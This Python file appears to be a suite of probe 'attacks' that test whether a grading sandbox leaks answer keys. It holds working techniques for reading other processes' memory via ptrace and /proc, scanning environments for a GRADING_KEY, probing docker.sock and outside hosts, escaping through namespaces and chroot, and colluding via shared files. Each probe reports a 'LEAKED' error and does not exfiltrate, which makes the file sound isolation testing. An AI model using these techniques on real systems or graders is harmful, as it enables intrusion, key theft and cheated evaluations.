"""Attacks on what is secret: expected answers, the key, the work of others, and the way to the network."""

# ruff: noqa: PTH109, PTH110, PTH111, PTH123, PTH207, PTH208


def reads_the_file_system(*args):
    """Looks for tests, the lab's assignment, the instructor's key, and the work of others."""
    import os

    wanted = ("grading.key", "bottleneck.py", "bottleneck.ipynb", "results.jsonl", "gradebook.csv")
    for place in ("/tmp", "/work", "/home", "/root", "/var/tmp", "/srv", "/mnt", "/dev/shm", os.getcwd()):
        for folder, folders, names in os.walk(place):
            folders[:] = [name for name in folders if name not in ("site-packages", "lib", ".git", "lab")]
            for name in names:
                other = name.startswith("honest-") and not folder.startswith(os.getcwd())
                if name in wanted or other:
                    with open(f"{folder}/{name}", "rb") as file:
                        raise RuntimeError(f"LEAKED: {folder}/{name} can be read, {len(file.read())} bytes")
    return 1


def imports_the_expected_answers(*args):
    """Imports the grading code by every name that it has."""
    import importlib

    names = (
        "grading.assignments.bottleneck",
        "grading.assignment",
        "grading.trials",
        "grading.attempt",
        "labs",
    )
    for name in names:
        for package in ("courseware.", "src.courseware.", "inside.courseware.", ""):
            try:
                importlib.import_module(package + name)
            except Exception:
                continue
            raise RuntimeError(f"LEAKED: {package + name} can be imported")
    return 1


def reads_the_environment(*args):
    """Looks for the key in the environment and command lines of every process that it sees."""
    import glob
    import os

    found = "\n".join(f"{name}={value}" for name, value in os.environ.items())
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                found += file.read().decode(errors="replace")
        except OSError:
            continue
    for word in ("GRADING_KEY", "a-key-for-the-hostile-class", "honest-", ".ipynb"):
        if word in found:
            raise RuntimeError(f"LEAKED: {word} in a process's environment or command line")
    return 1


def reads_the_memory_of_others(*args):
    """Attaches to other processes and reads their memory."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for process in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())}:
        if process in (0, os.getpid()):
            continue
        if libc.ptrace(16, process, None, None) == 0:  # PTRACE_ATTACH
            libc.ptrace(17, process, None, None)
            raise RuntimeError("LEAKED: another process could be attached to")
        try:
            with open(f"/proc/{process}/mem", "rb") as file:
                raise RuntimeError(f"LEAKED: memory of another process opened: {file.name}")
        except OSError:
            continue
    return 1


def looks_through_its_own_memory(*args):
    """Looks at the frames that called it and at all objects for expected values, trials and points."""
    import gc
    import sys

    secret = {"expected", "reference", "hint", "points", "key"}
    frame = sys._getframe(1)
    while frame is not None:
        found = secret & set(frame.f_locals)
        for value in frame.f_locals.values():
            found |= {name for name in secret if isinstance(value, dict) and name in value}
        if found:
            raise RuntimeError(f"LEAKED: {found} in {frame.f_code.co_name}")
        frame = frame.f_back
    for each in gc.get_objects():
        if type(each).__name__ in (
            "Trial",
            "Build",
            "Network",
            "Exercise",
            "Draw",
            "Assignment",
            "Submission",
        ):
            raise RuntimeError(f"LEAKED: {type(each)}")
    return 1


def follows_every_step(*args):
    """Traces and profiles what is run after it, and looks there for what its answer is compared with."""
    import sys

    def look(frame, event, value):
        if {"expected", "reference"} & set(frame.f_locals):
            raise RuntimeError("LEAKED: what is expected")
        return look

    frame = sys._getframe()
    while frame is not None:
        frame.f_trace = look
        frame = frame.f_back
    sys.settrace(look)
    sys.setprofile(look)
    return 1


def guesses_the_seed(x, weight, groups, *args):
    """Draws from every small seed, to know the inputs beforehand."""
    import torch

    generators = (torch.randn, torch.rand)
    for seed in range(3_000):
        for draw in generators:
            torch.manual_seed(seed)
            if torch.allclose(draw(3), x.flatten()[:3], atol=1e-3):
                raise RuntimeError(f"LEAKED: the inputs are drawn from seed {seed}")
    return x


def opens_sockets(*args):
    """Looks for any way to the network: interfaces, names, connections, packets."""
    import socket

    ways = []
    try:
        ways += [name for _, name in socket.if_nameindex() if name != "lo"]
    except OSError:
        ways = []
    addresses = [
        ("1.1.1.1", 53),
        ("8.8.8.8", 443),
        ("127.0.0.1", 22),
        ("127.0.0.1", 8888),
        ("127.0.0.1", 8786),
    ]
    for address in addresses:
        try:
            with socket.create_connection(address, timeout=0.1):
                ways.append(f"a connection to {address}")
        except OSError:
            continue
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
            packets.sendto(b"the answer", ("8.8.8.8", 53))
            ways.append("a packet")
    except OSError:
        pass
    try:
        with open("/proc/net/unix") as file:
            ways += [line.split()[-1] for line in file.readlines()[1:] if "@" in line]
    except OSError:
        pass
    for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/docker.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as local:
                local.connect(path)
                ways.append(path)
        except OSError:
            continue
    if ways:
        raise RuntimeError(f"LEAKED: {ways}")
    return 1


def breaks_out(*args):
    """Takes namespaces, mounts and changes of root to leave its place, and reads the key from there."""
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    libc.unshare(0x10000000 | 0x00020000)  # a user and a mount namespace of its own
    for path in ("/proc/self/setgroups", "/proc/self/uid_map", "/proc/self/gid_map"):
        try:
            with open(path, "w") as file:
                file.write("deny" if path.endswith("groups") else "0 0 1")
        except OSError:
            continue
    for call in (
        lambda: os.setuid(0),
        lambda: os.setgid(0),
        lambda: os.mknod("disk", 0o60666, os.makedev(254, 0)),
    ):
        try:
            call()
        except OSError:
            continue
    libc.mount(b"proc", b"/tmp", b"proc", 0, None)
    libc.umount2(b"/", 2)
    for step in ("/", "/proc/1/root", "/proc/self/root/..", "../../../../../.."):
        if libc.chroot(step.encode()) == 0 and any(map(os.path.exists, ("/work", "/root/.config"))):
            raise RuntimeError(f"LEAKED: {os.listdir('/')}")
    if os.path.exists("/proc/1/environ"):
        try:
            with open("/proc/1/environ", "rb") as file:
                if b"GRADING_KEY" in file.read():
                    raise RuntimeError("LEAKED: the key")
        except OSError:
            return 1
    return 1


def leaves_the_answer_for_others(*args):
    """Puts an answer where another submission may look: shared folders, shared memory, a socket."""
    import contextlib
    import os
    import socket

    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd()):
        with contextlib.suppress(OSError), open(f"{folder}/answers-of-a-friend", "w") as file:
            file.write("an answer")
    with contextlib.suppress(OSError):
        socket.socket(socket.AF_UNIX).bind("\0answers-of-a-friend")
    return 1


def finds_the_answer_of_others(*args):
    """Looks for what `leaves_the_answer_for_others` has left."""
    import os
    import socket

    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd()):
        if os.path.exists(f"{folder}/answers-of-a-friend"):
            raise RuntimeError(f"LEAKED: an answer in {folder}")
    try:
        socket.socket(socket.AF_UNIX).connect("\0answers-of-a-friend")
    except OSError:
        return 1
    raise RuntimeError("LEAKED: a friend's socket")


def repeats_an_earlier_answer(*args):
    """Answers with what it once answered, from memory or from its scratch."""
    import os

    path = "/tmp/earlier"
    if os.path.exists(path):
        with open(path) as file:
            return int(file.read())
    channels_in, channels_out, kernel_size, groups = (*args, 1)[:4]
    answer = channels_in // groups * channels_out * kernel_size**2 + 1  # never right, whatever is drawn
    try:
        with open(path, "w") as file:
            file.write(str(answer))
    except OSError:
        return answer
    return answer


ATTACKS = (
    leaves_the_answer_for_others,
    reads_the_file_system,
    imports_the_expected_answers,
    reads_the_environment,
    reads_the_memory_of_others,
    looks_through_its_own_memory,
    follows_every_step,
    guesses_the_seed,
    opens_sockets,
    breaks_out,
    finds_the_answer_of_others,
    repeats_an_earlier_answer,
)
